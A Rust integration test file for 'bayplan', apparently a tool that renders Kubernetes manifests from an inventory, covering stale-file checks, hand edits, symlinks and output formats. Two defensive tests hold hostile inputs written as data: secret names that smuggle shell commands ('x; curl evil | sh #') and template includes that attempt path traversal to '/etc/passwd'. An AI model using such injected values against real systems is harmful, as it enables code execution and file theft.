//! The program as people use it: short stories in a folder of their own.

use std::fs::{self, File};
use std::process::{Command, Stdio};

use serde_json::Value;

use crate::bayplan::{Desk, Said};

const HOME: &str = r#"
[stacks.home]

[services.web]
stack = "home"
image = "example/web:1.0"
ports.http = 80

[services.db]
stack = "home"
image = "example/db:1.0"
ports.sql = 5432
"#;

const WEB: &str = "out/apps/home/base/web.yaml";
const BASE: &str = "out/apps/home/base/kustomization.yaml";
const WORKLOAD_TEMPLATE: &str = "templates/apps/{stack}/base/_workload.j2";

fn rendered() -> Desk {
    let desk = Desk::with(HOME);
    desk.ok("render");
    desk
}

#[track_caller]
fn assert_said(said: &Said, code: i32, words: &[&str]) {
    assert_eq!(said.code, Some(code), "{}", said.all());
    for word in words {
        assert!(said.all().contains(word), "`{word}` is not in:\n{}", said.all());
    }
}

#[test]
fn nothing_moves_on_a_standard_error_that_is_no_terminal() {
    let service = |n: usize| format!("[services.s{n}]\nstack = \"home\"\nimage = \"example/s:1.0\"\n");
    let services: String = (0..400).map(service).collect();
    let desk = Desk::with(&format!("[stacks.home]\n{services}"));
    let said = desk.run("render");
    assert_said(&said, 0, &["created"]);
    assert_eq!(said.err.lines().count(), 1, "{}", said.err);
    assert!(!said.err.contains(['\r', '\u{1b}']), "{}", said.err);
    assert_eq!(desk.run("render -q").err, "");
}

/// What an environment shares with the base is rendered once. A template that looks at what they do not share is
/// rendered for each, however it looks.
#[test]
fn a_template_is_rendered_anew_for_whatever_it_reads() {
    let environments = "[environments.one]\n[environments.two]\nservices.web.env.COLOR = \"red\"\n";
    let desk = Desk::with(&format!("{HOME}\n{environments}"));
    let head = "apiVersion: v1\nkind: ConfigMap\n";
    let templates = [
        ("name", "{{ environment.name or 'base' }}"),
        ("part", "{% include '_part.j2' %}"),
        ("macro", "{% macro who() %}{{ environment.name or 'base' }}{% endmacro %}{{ who() }}"),
        (
            "whole",
            "{{ service|items|length }}{% for key, value in service|items if key == 'env' %}{{ value|tojson }}{% endfor %}",
        ),
        ("env", "{{ service.env|length }}"),
        ("by-name", "{{ service['en' ~ 'v']|length }}"),
        ("same", "{{ service.name }}"),
    ];
    desk.write("templates/_part.j2", "{{ environment.name or 'base' }}");
    for (name, text) in templates {
        let path = format!("templates/apps/{{stack}}/base/{{service}}-{name}.yaml.j2");
        let metadata = format!("metadata:\n  name: {{{{ service.name }}}}-{name}\ndata:\n  x: \"{text}\"\n");
        desk.write(&path, &format!("{head}{metadata}"));
    }
    desk.ok("render");
    let patched = |environment: &str, name: &str| {
        desk.exists(&format!("out/apps/home/overlays/{environment}/web-{name}.patch.yaml"))
    };
    for name in ["name", "part", "macro"] {
        assert!(patched("one", name) && patched("two", name), "{name}");
    }
    for name in ["whole", "env", "by-name"] {
        assert!(!patched("one", name) && patched("two", name), "{name}");
    }
    assert!(!patched("one", "same") && !patched("two", "same"));
}

#[test]
fn a_fresh_tree_is_not_stale() {
    let desk = rendered();
    assert_said(&desk.run("render --check"), 0, &["up to date"]);
    assert_said(&desk.run("diff"), 0, &["up to date"]);
    assert_eq!(desk.run("diff").out, "");
}

#[test]
fn check_lists_what_is_stale_missing_and_left_over_and_writes_nothing() {
    let desk = rendered();
    desk.edit("inventory.toml", "example/web:1.0", "example/web:2.0");
    desk.edit("inventory.toml", "services.db", "services.sql");
    let before = desk.files("out");
    let said = desk.run("render --check");
    assert_said(&said, 1, &["run `bayplan render`"]);
    let mut lines: Vec<&str> = said.out.lines().collect();
    lines.sort_unstable();
    let wanted = [
        "left over out/apps/home/base/db.yaml",
        "missing   out/apps/home/base/sql.yaml",
        "stale     out/README.md",
        "stale     out/apps/home/base/kustomization.yaml",
        "stale     out/apps/home/base/network.yaml",
        "stale     out/apps/home/base/web.yaml",
    ];
    let listed: Vec<&str> = lines.iter().filter(|line| !line.contains("/infrastructure/")).copied().collect();
    assert_eq!(listed, wanted);
    assert!(before == desk.files("out"));
    desk.ok("render");
    desk.ok("render --check");
}

/// A file of ours that nobody committed is as wrong as a stale one.
#[test]
fn a_copy_of_our_own_file_is_left_over() {
    let desk = rendered();
    desk.write("out/apps/home/base/web-old.yaml", &desk.read(WEB));
    assert_said(&desk.run("render --check"), 1, &["left over out/apps/home/base/web-old.yaml"]);
    desk.ok("render");
    assert!(!desk.exists("out/apps/home/base/web-old.yaml"));
}

#[test]
fn a_hand_edited_file_is_kept_and_shown_until_forced() {
    let desk = rendered();
    desk.edit(WEB, "replicas: 1", "replicas: 5");
    for line in ["render", "render --check"] {
        let said = desk.run(line);
        assert_said(&said, 1, &["hand-edited-file", WEB, "--force"]);
        assert!(said.out.contains("\n-  replicas: 5\n+  replicas: 1\n"), "the difference: {}", said.out);
    }
    assert!(desk.read(WEB).contains("replicas: 5"));
    desk.ok("render --force");
    assert!(desk.read(WEB).contains("replicas: 1"));
    desk.ok("render --check");
}

#[test]
fn a_hand_edited_file_keeps_every_other_from_being_written() {
    let desk = rendered();
    desk.edit(WEB, "replicas: 1", "replicas: 5");
    desk.edit("inventory.toml", "example/db:1.0", "example/db:2.0");
    assert_said(&desk.run("render"), 1, &["nothing was written"]);
    assert!(desk.read("out/apps/home/base/db.yaml").contains("example/db:1.0"));
}

#[test]
fn line_endings_of_another_system_are_no_edit() {
    let desk = rendered();
    let text = desk.read(WEB);
    desk.write(WEB, &text.replace('\n', "\r\n"));
    desk.ok("render --check");
    desk.ok("render");
    assert!(desk.read(WEB).contains("\r\n"), "and the file is left as it is");
}

#[test]
fn manifests_of_other_people_are_kept_and_listed() {
    let desk = rendered();
    let secret = "apiVersion: v1\nkind: Secret\nmetadata:\n  name: own\n";
    desk.write("out/apps/home/base/own.yaml", secret);
    desk.write("out/apps/home/base/notes.txt", "keep me\n");
    desk.write("out/own/deep/thing.yaml", secret);
    assert_said(&desk.run("render --check"), 1, &[BASE]);
    desk.ok("render");
    assert!(desk.read(BASE).contains("- own.yaml\n"));
    assert!(!desk.read(BASE).contains("notes"));
    for path in ["out/apps/home/base/own.yaml", "out/own/deep/thing.yaml"] {
        assert_eq!(desk.read(path), secret);
    }
    desk.ok("render --check");
    fs::remove_file(desk.path("out/apps/home/base/own.yaml")).unwrap();
    desk.ok("render");
    assert!(!desk.read(BASE).contains("own.yaml"));
}

#[test]
fn a_manifest_that_cannot_be_read_is_told() {
    let desk = rendered();
    fs::write(desk.path("out/apps/home/base/own.yaml"), b"kind: Secret # \xff\n").unwrap();
    assert_said(&desk.run("check"), 0, &["unreadable-manifest", "own.yaml` is not UTF-8"]);
    let large = "x: y\n".repeat(2 << 20);
    desk.write("out/apps/home/base/own.yaml", &large);
    assert_said(&desk.run("check"), 0, &["unreadable-manifest", "own.yaml` is larger than"]);
    desk.write("out/apps/home/base/own.bin", &large);
    fs::remove_file(desk.path("out/apps/home/base/own.yaml")).unwrap();
    assert_said(&desk.run("check"), 0, &["nothing to object to"]);
}

/// Modes stop nobody who is root.
#[cfg(unix)]
#[test]
fn a_manifest_that_may_not_be_read_stops_the_run() {
    use std::os::unix::fs::PermissionsExt;
    let desk = rendered();
    desk.write("out/apps/home/base/own.yaml", "kind: ConfigMap\n");
    for closed in ["out/apps/home/base/own.yaml", "out/apps/home"] {
        let mode = |mode| fs::set_permissions(desk.path(closed), fs::Permissions::from_mode(mode)).unwrap();
        mode(0o000);
        let is_root = fs::read(desk.path("out/apps/home/base/own.yaml")).is_ok();
        for line in ["check", "render", "render --check"] {
            let said = desk.run(line);
            assert!(is_root || said.code == Some(2) && said.err.contains(closed), "{line}: {}", said.all());
        }
        mode(0o755);
    }
}

#[test]
fn somebody_elses_file_in_the_way_is_a_finding_even_if_forced() {
    let desk = rendered();
    desk.write(WEB, "mine: true\n");
    for line in ["render", "render --check", "render --force"] {
        assert_said(&desk.run(line), 1, &["path-taken", WEB]);
        assert_eq!(desk.read(WEB), "mine: true\n", "{line}");
    }
}

#[cfg(unix)]
#[test]
fn nothing_is_written_through_a_symbolic_link() {
    let desk = rendered();
    fs::rename(desk.path("out/apps"), desk.path("elsewhere")).unwrap();
    std::os::unix::fs::symlink("../elsewhere", desk.path("out/apps")).unwrap();
    desk.edit("inventory.toml", "example/web:1.0", "example/web:2.0");
    for line in ["render", "render --force"] {
        assert_said(&desk.run(line), 1, &["symlink-in-tree", "out/apps"]);
    }
    assert!(desk.read("elsewhere/home/base/web.yaml").contains("example/web:1.0"));
    fs::rename(desk.path("out"), desk.path("real")).unwrap();
    std::os::unix::fs::symlink("real", desk.path("out")).unwrap();
    assert_said(&desk.run("render"), 2, &["`out` is a symbolic link"]);
}

#[test]
fn what_leaves_the_inventory_leaves_the_tree_with_its_empty_folders() {
    let desk = rendered();
    desk.write(
        "inventory.toml",
        &format!("{HOME}\n[stacks.more]\n[services.more]\nstack = \"more\"\nimage = \"example/more:1.0\"\n"),
    );
    desk.ok("render");
    desk.write("out/apps/more/base/kept.txt", "mine\n");
    assert!(desk.exists("out/apps/more/overlays/default"));
    desk.write("inventory.toml", HOME);
    desk.ok("render");
    assert_eq!(desk.names("out/apps/more"), ["base/kept.txt"]);
    assert!(!desk.exists("out/apps/more/overlays"));
    fs::remove_file(desk.path("out/apps/more/base/kept.txt")).unwrap();
    assert_eq!(desk.ok("render --check").out, "");
}

#[test]
fn while_there_is_an_error_nothing_is_written() {
    let desk = Desk::with(&HOME.replace("ports.http = 80", "ports.http = 80000"));
    assert_said(&desk.run("render"), 1, &["error[bad-port]", "inventory.toml:7", "nothing was written"]);
    assert!(!desk.exists("out"));
    desk.write("p/mine.txt", "mine\n");
    assert_said(&desk.run("render --out p/q/r"), 1, &["nothing was written"]);
    assert_eq!(desk.names("p"), ["mine.txt"]);
    assert!(!desk.exists("p/q"), "the folders around it go, too");
    desk.write("inventory.toml", HOME);
    desk.ok("render");
    let before = desk.files("out");
    desk.edit("inventory.toml", "stack = \"home\"", "stack = \"hom\"");
    assert_said(&desk.run("render"), 1, &["unknown-reference", "home"]);
    assert_said(&desk.run("diff"), 1, &["unknown-reference"]);
    assert!(before == desk.files("out"));
}

#[test]
fn warnings_stop_a_render_only_when_denied() {
    let desk = Desk::with(&HOME.replace("example/web:1.0", "example/web:latest"));
    assert_said(
        &desk.run("render --deny warnings"),
        1,
        &["warning[floating-image-tag]", "nothing was written"],
    );
    assert!(!desk.exists("out"));
    assert_said(&desk.run("check --deny warnings"), 1, &["floating-image-tag"]);
    assert_said(&desk.run("check"), 0, &["floating-image-tag"]);
    desk.ok("render");
    assert!(desk.exists(WEB));
}

#[test]
fn wrong_usage_and_missing_files_are_failures() {
    let desk = Desk::empty();
    for line in ["", "paint", "check --format paper", "render --check --force", "templates eject"] {
        assert_eq!(desk.run(line).code, Some(2), "{line}");
    }
    let nowhere = Said::from(desk.command(&["check"]).current_dir("/").output().unwrap());
    assert_said(&nowhere, 2, &["there is no inventory.toml here or in a folder above"]);
    assert_said(&desk.run("render --inventory none.toml"), 2, &["none.toml"]);
    desk.write("inventory.toml", HOME);
    assert_said(&desk.run("render --templates none"), 2, &["there is no folder `none`"]);
    desk.write("out", "a file\n");
    assert_said(&desk.run("render"), 2, &["out"]);
}

#[test]
fn the_inventory_is_found_upwards() {
    let desk = Desk::with(HOME);
    fs::create_dir_all(desk.path("docs/deep")).unwrap();
    let said = Said::from(desk.command(&["render"]).current_dir(desk.path("docs/deep")).output().unwrap());
    assert_said(&said, 0, &["../../out: "]);
    assert!(desk.exists(WEB));
    assert_eq!(desk.names("docs"), Vec::<String>::new());
}

#[test]
fn yaml_is_found_too_and_a_tree_can_go_elsewhere() {
    let desk = Desk::empty();
    desk.write(
        "inventory.yaml",
        "stacks:\n  home: {}\nservices:\n  web: {stack: home, image: 'example/web:1.0'}\n",
    );
    desk.ok("render --out elsewhere/tree");
    assert!(desk.read("elsewhere/tree/apps/home/base/web.yaml").contains("from inventory.yaml: edit that"));
    assert!(!desk.exists("out"));
}

#[test]
fn git_applies_what_diff_prints() {
    let desk = rendered();
    desk.edit("inventory.toml", "example/web:1.0", "example/web:2.0");
    desk.edit("inventory.toml", "services.db", "services.sql");
    let diff = desk.run("diff");
    assert_eq!(diff.code, Some(1));
    desk.write("change.diff", &diff.out);
    let git =
        Command::new("git").args(["apply", "change.diff"]).current_dir(desk.path(".")).output().unwrap();
    assert!(git.status.success(), "{}\n{}", String::from_utf8_lossy(&git.stderr), diff.out);
    assert_said(&desk.run("render --check"), 0, &["up to date"]);
}

#[test]
fn a_reader_that_goes_away_is_no_failure() {
    let desk = rendered();
    desk.edit("inventory.toml", "example/web:1.0", "example/web:2.0");
    for (line, code) in [("schema", 0), ("completions bash", 0), ("templates list", 0), ("diff", 1)] {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let words: Vec<&str> = line.split(' ').collect();
        let said = Said::from(desk.command(&words).stdout(Stdio::from(writer)).output().unwrap());
        assert_eq!((said.code, said.err.as_str()), (Some(code), ""), "{line}");
    }
}

#[test]
fn an_ejected_template_takes_effect() {
    let desk = rendered();
    let path = WORKLOAD_TEMPLATE.strip_prefix("templates/").unwrap();
    assert_said(&desk.run("templates list"), 0, &[&format!("{path}  "), "built in"]);
    let eject = desk.command(&["templates", "eject", path]).output().unwrap();
    assert!(eject.status.success());
    desk.ok("render --check");
    assert_said(&desk.run("templates list"), 0, &[&format!("{path}  "), "yours, as built in"]);
    desk.edit(WORKLOAD_TEMPLATE, "revisionHistoryLimit: 3", "revisionHistoryLimit: 9");
    let list = desk.ok("templates list").out;
    let line = list.lines().find(|line| line.starts_with(&format!("{path} "))).unwrap();
    assert!(line.contains("replaced by yours"), "{line}");
    desk.ok("render");
    assert!(desk.read(WEB).contains("revisionHistoryLimit: 9"));
    let again = Said::from(desk.command(&["templates", "eject", path]).output().unwrap());
    assert_eq!(again.code, Some(2), "the changed one is kept: {}", again.all());
    assert!(desk.read(WORKLOAD_TEMPLATE).contains("revisionHistoryLimit: 9"));
    assert_said(&desk.run("templates eject README.j2"), 2, &["did you mean `README.md.j2`?"]);
}

#[test]
fn a_new_template_adds_a_file_for_each_service() {
    let desk = Desk::with(HOME);
    desk.write(
        "templates/apps/{stack}/base/{service}-extra.yaml.j2",
        "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {{ service.name }}-extra\n  namespace: {{ stack.namespace }}\ndata:\n  image: {{ service.image }}\n",
    );
    desk.ok("render");
    assert!(desk.read("out/apps/home/base/web-extra.yaml").contains("image: example/web:1.0"));
    let base = desk.read(BASE);
    assert!(base.contains("- db-extra.yaml\n") && base.contains("- web-extra.yaml\n"), "{base}");
}

#[test]
fn a_broken_template_names_itself_its_line_and_the_service_once() {
    let desk = Desk::with(HOME);
    let path = "templates/apps/{stack}/base/{service}-extra.yaml.j2";
    desk.write(path, "apiVersion: v1\nkind: {{ service.knid }}\n");
    let said = desk.run("render");
    assert_said(
        &said,
        1,
        &[
            "template-undefined",
            &format!("{path}:2:"),
            "line 2",
            "service `db`",
            "did you mean `kind`?",
            "1 error",
        ],
    );
    desk.write(path, "{% if %}\n");
    assert_said(&desk.run("render"), 1, &["template-syntax", &format!("{path}:1:"), "1 error"]);
    assert!(!desk.exists("out"));
}

#[test]
fn a_template_reads_nothing_outside_its_folder_and_writes_nothing_outside_the_tree() {
    let desk = Desk::with(HOME);
    desk.write("secret.txt", "do not show me\n");
    for include in ["../secret.txt", "../../../../secret.txt", "/etc/passwd", "..\\\\secret.txt"] {
        desk.write("templates/note.md.j2", &format!("{{% include \"{include}\" %}}\n"));
        let said = desk.run("render");
        assert_said(&said, 1, &["template-error", "no template of that name"]);
        assert!(!said.all().contains("do not show me"));
    }
    assert!(!desk.exists("out"));
}

#[test]
fn a_template_does_not_run_for_ever() {
    let desk = Desk::with(HOME);
    desk.write(
        "templates/note.md.j2",
        "{% for a in range(9999) %}{% for b in range(9999) %}x{% endfor %}{% endfor %}\n",
    );
    assert_said(&desk.run("render"), 1, &["template-limit", "note.md.j2"]);
}

#[test]
fn one_run_at_a_time() {
    let desk = rendered();
    let held = File::open(desk.path("out")).unwrap();
    held.lock().unwrap();
    assert_said(&desk.run("render"), 2, &["another bayplan is writing to `out`: wait until it has finished"]);
    desk.ok("render --check");
    drop(held);
    desk.ok("render");
}

#[test]
fn json_has_the_shape_that_programs_rely_on() {
    let desk = Desk::with(&HOME.replace("ports.http = 80", "ports.http = 80000"));
    for line in ["check --format json", "render --format json"] {
        let said = desk.run(line);
        assert_eq!(said.code, Some(1));
        let found: Value = serde_json::from_str(&said.out).unwrap();
        assert_eq!(found["version"], 1);
        assert_eq!(found["summary"], serde_json::json!({ "errors": 1, "warnings": 0 }));
        let one = &found["diagnostics"][0];
        assert_eq!((&one["rule"], &one["level"]), (&Value::from("bad-port"), &Value::from("error")));
        assert!(one["message"].is_string() && (one["help"].is_string() || one["help"].is_null()));
        let label = &one["labels"][0];
        assert_eq!((&label["file"], &label["primary"]), (&Value::from("inventory.toml"), &Value::from(true)));
        assert_eq!(label["start"], serde_json::json!({ "line": 7, "column": 14 }));
        assert_eq!(label["end"], serde_json::json!({ "line": 7, "column": 19 }));
    }
    desk.write("inventory.toml", HOME);
    let clean: Value = serde_json::from_str(&desk.ok("check --format json").out).unwrap();
    assert_eq!(clean["diagnostics"], serde_json::json!([]));
    let sarif: Value = serde_json::from_str(&desk.ok("check --format sarif").out).unwrap();
    assert_eq!(sarif["version"], "2.1.0");
    assert_eq!(desk.ok("check --format github").out, "");
}

#[test]
fn colour_only_where_it_is_wanted() {
    let desk = Desk::with(&HOME.replace("ports.http = 80", "ports.http = 80000"));
    let coloured = |arguments: &[&str], variables: &[(&str, &str)]| {
        let said = Said::from(desk.command(arguments).envs(variables.iter().copied()).output().unwrap());
        said.out.contains('\u{1b}')
    };
    assert!(!coloured(&["check"], &[]));
    assert!(!coloured(&["check"], &[("NO_COLOR", "1")]));
    assert!(coloured(&["check"], &[("CLICOLOR_FORCE", "1")]));
    assert!(!coloured(&["check", "--color", "never"], &[("CLICOLOR_FORCE", "1")]));
    assert!(coloured(&["check", "--color", "always"], &[("NO_COLOR", "1")]));
}

#[test]
fn quiet_says_nothing_but_results() {
    let desk = Desk::with(HOME);
    for line in ["check -q", "render -q", "render --check -q", "diff -q"] {
        assert_eq!(desk.ok(line).all(), "", "{line}");
    }
    desk.edit("inventory.toml", "example/web:1.0", "example/web:2.0");
    let said = desk.run("render --check -q");
    assert_said(&said, 1, &["stale     out/apps/home/base/web.yaml"]);
    assert_eq!(said.err, "");
}

/// What is printed is meant to be pasted: no name that Kubernetes refuses gets into a command, and none is two words.
#[test]
fn no_name_of_a_secret_is_a_command() {
    let desk = Desk::with(
        "[stacks.s]\n[services.a]\nstack = \"s\"\nimage = \"a:1.0\"\n\
         [secrets.bad]\nstack = \"s\"\nprovider = \"sops\"\nkeys = [\"k\"]\nname = \"x; curl evil | sh #\"\n\
         [secrets.\"a; touch pwned #\"]\nstack = \"s\"\nprovider = \"sealed-secrets\"\nkeys = [\"k\"]\nname = \"fine\"\n",
    );
    assert_said(&desk.run("secret template bad"), 2, &["`x; curl evil | sh #` cannot name a Secret"]);
    desk.edit("inventory.toml", "x; curl evil | sh #", "x");
    assert_eq!(desk.run("render").code, Some(0));
    let said = desk.run("check");
    let text = [said.out, said.err].concat();
    assert!(text.contains("bayplan secret template 'a; touch pwned #'"), "{text}");
}

/// It leads to the very file that lacks the key, wherever the tree is.
#[test]
fn how_to_add_a_key_names_the_file_that_lacks_it() {
    let desk = Desk::with(
        "[stacks.s]\n[services.a]\nstack = \"s\"\nimage = \"a:1.0\"\n\
         [secrets.login]\nstack = \"s\"\nprovider = \"sealed-secrets\"\nkeys = [\"user\"]\n",
    );
    desk.write(
        "my tree/apps/s/base/login.sealed.yaml",
        "apiVersion: bitnami.com/v1alpha1\nkind: SealedSecret\nmetadata:\n  name: login\n  namespace: s\n\
         spec:\n  encryptedData:\n    password: AgB\n  template:\n    metadata:\n      name: login\n      namespace: s\n",
    );
    let said = Said::from(desk.command(&["check", "--out", "my tree"]).output().unwrap());
    let text = [said.out, said.err].concat();
    assert!(text.contains("--merge-into 'my tree/apps/s/base/login.sealed.yaml'"), "{text}");
}
